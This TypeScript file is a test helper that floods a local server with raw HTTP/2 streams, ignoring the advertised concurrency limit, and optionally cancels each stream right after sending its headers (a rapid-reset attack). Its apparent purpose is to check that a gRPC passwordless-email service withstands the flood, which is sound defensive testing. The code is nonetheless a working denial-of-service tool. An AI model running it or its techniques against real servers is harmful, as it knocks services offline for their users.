/**
 * An HTTP/2 stream flood, run as its own process by h2-streams.test.ts (so its CPU does not
 * delay the test's own /healthz probes): `node --import tsx h2-flood.ts PORT CONNECTIONS MS MAX_STREAMS MODE`.
 *
 * It writes raw frames, as an attacker would, rather than using node:http2's client, which
 * honours the server's SETTINGS_MAX_CONCURRENT_STREAMS and queues requests past it: here each
 * connection opens stream after stream regardless of the advertised limit, of RST_STREAM
 * REFUSED_STREAM and of GOAWAY, for at most MS milliseconds and MAX_STREAMS streams. Each stream
 * is the gRPC send with no token and no body (END_STREAM never set). MODE `hold` leaves each
 * stream open; `reset` cancels each right after its HEADERS (rapid reset). It prints one JSON
 * line: streams opened, and what the server answered (HEADERS, RST_STREAM, GOAWAY frames).
 */
import net from 'node:net';

const GRPC_SEND = '/scalekit.v1.auth.passwordless.PasswordlessService/SendPasswordlessEmail';
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
export const FRAME = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, GOAWAY: 0x7 } as const;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = 0x8;
/** Frames written per socket write; the loop yields between batches so every connection progresses. */
const BATCH = 64;
/** After the flood, how long a connection waits (reading, not writing) for the server to close it. */
const GRACE_MS = 5_000;

export interface FloodResult {
  readonly streamsOpened: number;
  readonly headersReceived: number;
  readonly resetsReceived: number;
  readonly goawaysReceived: number;
  /** Connections the server closed, during the flood or within GRACE_MS after it. */
  readonly closedByServer: number;
  readonly connections: number;
}

/** HPACK: an integer with a 7-bit prefix, as a string length (RFC 7541 §5.1; the H bit left 0: no Huffman). */
function length7(n: number): Buffer {
  if (n < 127) return Buffer.from([n]);
  const bytes = [127];
  let rest = n - 127;
  while (rest >= 128) {
    bytes.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  bytes.push(rest);
  return Buffer.from(bytes);
}

/** HPACK: a literal header field without indexing, new name, no Huffman (RFC 7541 §6.2.2). */
export function literal(name: string, value: string): Buffer {
  const n = Buffer.from(name, 'latin1');
  const v = Buffer.from(value, 'latin1');
  return Buffer.concat([Buffer.from([0x00]), length7(n.length), n, length7(v.length), v]);
}

export function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fff_ffff, 5);
  return Buffer.concat([head, payload]);
}

function headerBlock(port: number): Buffer {
  return Buffer.concat([
    literal(':method', 'POST'),
    literal(':scheme', 'http'),
    literal(':path', GRPC_SEND),
    literal(':authority', `127.0.0.1:${port}`),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
  ]);
}

interface Counts {
  streamsOpened: number;
  headersReceived: number;
  resetsReceived: number;
  goawaysReceived: number;
  closedByServer: number;
}

function floodOne(port: number, until: number, maxStreams: number, mode: 'hold' | 'reset', counts: Counts): Promise<void> {
  const block = headerBlock(port);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(CANCEL);
  return new Promise((done) => {
    const socket = net.connect(port, '127.0.0.1');
    let closed = false;
    let pending = Buffer.alloc(0);
    let nextId = 1;
    socket.on('error', () => undefined);
    let destroyedHere = false;
    socket.on('close', () => {
      if (!destroyedHere) counts.closedByServer += 1;
      closed = true;
      done();
    });
    // Reads (and counts) the server's frames: a client that stops reading would only be flow-controlled.
    socket.on('data', (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        const type = pending[3];
        const flags = pending[4]!;
        if (type === FRAME.HEADERS) counts.headersReceived += 1;
        else if (type === FRAME.RST_STREAM) counts.resetsReceived += 1;
        else if (type === FRAME.GOAWAY) counts.goawaysReceived += 1;
        else if (type === FRAME.SETTINGS && (flags & ACK) === 0 && !closed) socket.write(frame(FRAME.SETTINGS, ACK, 0, Buffer.alloc(0)));
        pending = pending.subarray(9 + length);
      }
    });
    // The flood is over: stop writing, and give the server GRACE_MS to close the connection.
    const stop = (): void => {
      if (closed) return;
      closed = true;
      setTimeout(() => {
        destroyedHere = !socket.destroyed;
        socket.destroy();
      }, GRACE_MS).unref();
    };
    const pump = (): void => {
      if (closed) return;
      if (Date.now() >= until) return stop();
      // Past its stream budget a connection stays open (and reading) until the time is up, so
      // that whether the server ends it is still seen.
      if (nextId > maxStreams * 2) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < BATCH && nextId <= maxStreams * 2; i++) {
        frames.push(frame(FRAME.HEADERS, END_HEADERS, nextId, block));
        if (mode === 'reset') frames.push(frame(FRAME.RST_STREAM, 0, nextId, rst));
        nextId += 2;
        counts.streamsOpened += 1;
      }
      if (socket.write(Buffer.concat(frames))) setImmediate(pump);
      else socket.once('drain', pump);
    };
    setTimeout(stop, Math.max(0, until - Date.now()));
    socket.once('connect', () => {
      socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]));
      pump();
    });
  });
}

export async function flood(
  port: number,
  connections: number,
  durationMs: number,
  maxStreams: number,
  mode: 'hold' | 'reset',
): Promise<FloodResult> {
  const counts: Counts = { streamsOpened: 0, headersReceived: 0, resetsReceived: 0, goawaysReceived: 0, closedByServer: 0 };
  const until = Date.now() + durationMs;
  await Promise.all(Array.from({ length: connections }, () => floodOne(port, until, maxStreams, mode, counts)));
  return { ...counts, connections };
}

if (process.argv[1] !== undefined && import.meta.filename === process.argv[1]) {
  const [port, connections, durationMs, maxStreams, mode] = process.argv.slice(2);
  if (mode !== 'hold' && mode !== 'reset') throw new Error('usage: h2-flood.ts PORT CONNECTIONS MS MAX_STREAMS hold|reset');
  const result = await flood(Number(port), Number(connections), Number(durationMs), Number(maxStreams), mode);
  process.stdout.write(`${JSON.stringify(result)}\n`);
}
